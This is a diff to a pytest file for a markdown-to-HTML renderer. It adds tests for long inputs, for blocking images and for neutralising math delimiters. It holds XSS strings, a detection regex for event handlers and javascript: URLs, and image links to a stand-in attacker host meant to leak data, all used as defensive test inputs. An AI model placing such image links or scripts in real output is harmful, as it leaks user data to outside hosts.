@@ -4,7 +4,7 @@ import re
 
 import pytest
 
-from archnb.html import FIXED, preformatted, render_markdown, text_html, visible
+from archnb.html import FIXED, SCROLLED, preformatted, render_markdown, text_html, visible
 
 ATTACKS = [
     "<script>alert(1)</script>",
@@ -38,7 +38,7 @@ def test_nothing_active_comes_out(text, render):
     assert tags <= set(
         "a br code em h1 h2 li ol p pre span strong table tbody td th thead tr ul".split()
     )
-    for tag in re.findall(r"<[a-zA-Z][^>]*>", html.replace(f' style="{FIXED}"', "")):
+    for tag in re.findall(r"<[a-zA-Z][^>]*>", html.replace(f' style="{FIXED};{SCROLLED}"', "")):
         assert not re.search(
             r"\bon\w+\s*=|style\s*=|class\s*=|src\s*=|javascript:|data:", tag, re.IGNORECASE
         ), tag
@@ -66,5 +66,67 @@ def test_what_cannot_be_seen_is_spelled_out(character):
     assert character not in text_html(f"a{character}b")
 
 
-def test_a_very_long_answer_is_not_parsed():
-    assert render_markdown("**x** " * 10_000).startswith("<pre")
+def test_a_paragraph_without_end_stays_text_and_the_rest_is_rendered():
+    html = render_markdown("# T\n\n" + "**x** " * 10_000 + "\n\n- **b**\n")
+    assert html.startswith("<h1>T</h1>")
+    assert "<strong>x" not in html
+    assert "<li><strong>b</strong></li>" in html
+
+
+def test_an_answer_without_end_is_not_parsed():
+    assert render_markdown("x\n\n" * 200_000).startswith("<pre")
+
+
+LONG = [
+    ("references across blocks", "[a][r]\n\n{}\n\n[r]: https://example.org\n"),
+    ("a fence with empty lines", "```\na\n\n{}\n\nb\n```\n\nc"),
+    ("a loose list", "- a\n\n  {}\n\n- b\n\n      code\n\n1. c"),
+    ("a table", "| a |\n|---|\n| {} |\n\nafter"),
+    ("a quote", "> a\n>\n> {}\nlazy\n\nb"),
+]
+
+
+@pytest.mark.parametrize(("name", "frame"), LONG, ids=[name for name, _ in LONG])
+def test_a_long_answer_is_rendered_as_a_short_one(name, frame):
+    """What stands around a long middle reads as it would around a short one."""
+    filler = "word " * 300
+    short, long = (
+        render_markdown("\n\n".join([frame.format(filler)] * count)) for count in (1, 40)
+    )
+    assert len(frame.format(filler)) * 40 > 50_000
+    assert long.count("<p>") >= short.count("<p>")
+    for tag in set(re.findall(r"<(\w+)", short)):
+        assert long.count(f"<{tag}") >= short.count(f"<{tag}") * (40 if tag == "a" else 1)
+    assert not long.startswith('<pre style="')
+
+
+IMAGES = [
+    ("![x](https://evil.example/?d=S)", "image blocked: evil.example (x)", "https://evil.example/?d=S"),
+    ("![](https://u:p@evil.example:1/)", "image blocked: evil.example", "https://u:p@evil.example:1/"),
+    ("![x](local.png)", "image blocked: no host (x)", None),
+    ("![x](data:image/png;base64,AAAA)", "image blocked: no host (x)", None),
+    ("![x](https://[::1)", "image blocked: no host (x)", None),
+    ("[![x](https://a.example)](https://b.example)", "image blocked: a.example (x)", "https://b.example"),
+    ("![<b>](https://a.example)", "image blocked: a.example (&lt;b&gt;)", "https://a.example"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "words", "link"), IMAGES)
+def test_an_image_is_words(text, words, link):
+    """o117: what is fetched is a message that is sent; a person may follow the link."""
+    html = render_markdown(text)
+    assert words in html
+    assert "<img" not in html
+    links = re.findall(r'href="([^"]*)"', html)
+    assert links == ([link] if link else [])
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ["$a$", "$$a$$", r"\\(a\\)", r"\\[a\\]", r"\begin{equation}a\end{equation}", r"\eqref{a}"],
+)
+def test_a_page_finds_no_formula(formula):
+    """o133: MathJax never looks across a tag."""
+    for html in (text_html(formula), render_markdown(formula)):
+        runs = re.split(r"<[^>]*>", html)
+        assert not any(re.search(r"\$.|.\$|\\[(\[]|\\begin|\\(eq)?ref", run) for run in runs), html
